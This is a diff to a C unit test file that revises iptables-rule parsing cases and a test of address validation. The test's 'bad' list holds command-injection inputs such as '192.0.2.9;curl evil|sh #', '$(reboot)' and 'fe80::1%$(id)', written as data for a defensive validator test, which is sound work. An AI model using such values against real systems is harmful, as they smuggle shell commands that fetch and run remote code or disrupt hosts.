@@ -273,7 +273,8 @@ static void iptables_rules(void **state)
 		  DROPPED, NULL },
 		{ ":INPUT ACCEPT [0:0]\n-A INPUT -m comment --comment \"say \\\"-j DROP\\\" -j DROP\" -j ACCEPT\n",
 		  PASSES, NULL },
-		{ ":INPUT ACCEPT [0:0]\n-A INPUT -m comment --comment roce -j DROP\n", DROPPED, NULL },
+		{ ":INPUT ACCEPT [0:0]\n-A INPUT -m comment --comment roce -j DROP\n", DROPPED,
+		  "INPUT -m comment --comment roce -j DROP" },
 		/* options with two values, or none */
 		{ ":INPUT ACCEPT [0:0]\n-A INPUT -m set --match-set banned src -j DROP\n", PERHAPS,
 		  "INPUT -m set --match-set banned src -j DROP" },
@@ -293,9 +294,10 @@ static void iptables_rules(void **state)
 		  PASSES, NULL },
 		{ ":INPUT ACCEPT [0:0]\n-A INPUT -i eth+ -j DROP\n", DROPPED, NULL },
 		{ ":INPUT ACCEPT [0:0]\n-A INPUT -i ens+ -j DROP\n", PASSES, NULL },
-		{ ":INPUT DROP [0:0]\n:more - [0:0]\n-A INPUT -g more\n-A INPUT -j ACCEPT\n", DROPPED,
+		{ ":INPUT DROP [0:0]\n:more - [0:0]\n-A INPUT -g more\n-A INPUT -j ACCEPT\n",
+		  DROPPED, NULL },
+		{ ":INPUT ACCEPT [0:0]\n-A INPUT -j LOG --log-prefix \"-j DROP \"\n", PASSES,
 		  NULL },
-		{ ":INPUT ACCEPT [0:0]\n-A INPUT -j LOG --log-prefix \"-j DROP \"\n", PASSES, NULL },
 		{ ":INPUT ACCEPT [0:0]\n-A \n-A INPUT -j\n", PERHAPS, NULL },
 	};
 	size_t i;
@@ -372,11 +374,13 @@ static void roce_sizes(void **state)
 static void hostile_addresses(void **state)
 {
 	static const char * const good[] = {
-		"192.0.2.9", "fe80::1%eth0", "::", "2001:db8::9", "::ffff:192.0.2.9", "fe80::1%eth0.7",
+		"192.0.2.9", "fe80::1%eth0", "::", "2001:db8::9", "::ffff:192.0.2.9",
+		"fe80::1%eth0.7",
 	};
 	static const char * const bad[] = {
-		"", "192.0.2.9;curl evil|sh #", "$(reboot)", "`reboot`", "-all", "192.0.2.9 -batch /x",
-		"192.0.2.9\n", "\033]0;x\007", "fe80::1%eth0;reboot", "fe80::1%", "fe80::1%a b",
+		"", "192.0.2.9;curl evil|sh #", "$(reboot)", "`reboot`", "-all",
+		"192.0.2.9 -batch /x", "192.0.2.9\n", "\033]0;x\007", "fe80::1%eth0;reboot",
+		"fe80::1%", "fe80::1%a b",
 		"192.0.2", "192.0.2.9%eth0", "host.example", "\xff\xfe", "default", "%eth0",
 		"::1 via 192.0.2.1", "fe80::1%$(id)", "fe80::1%\xe2\x80\xae",
 	};
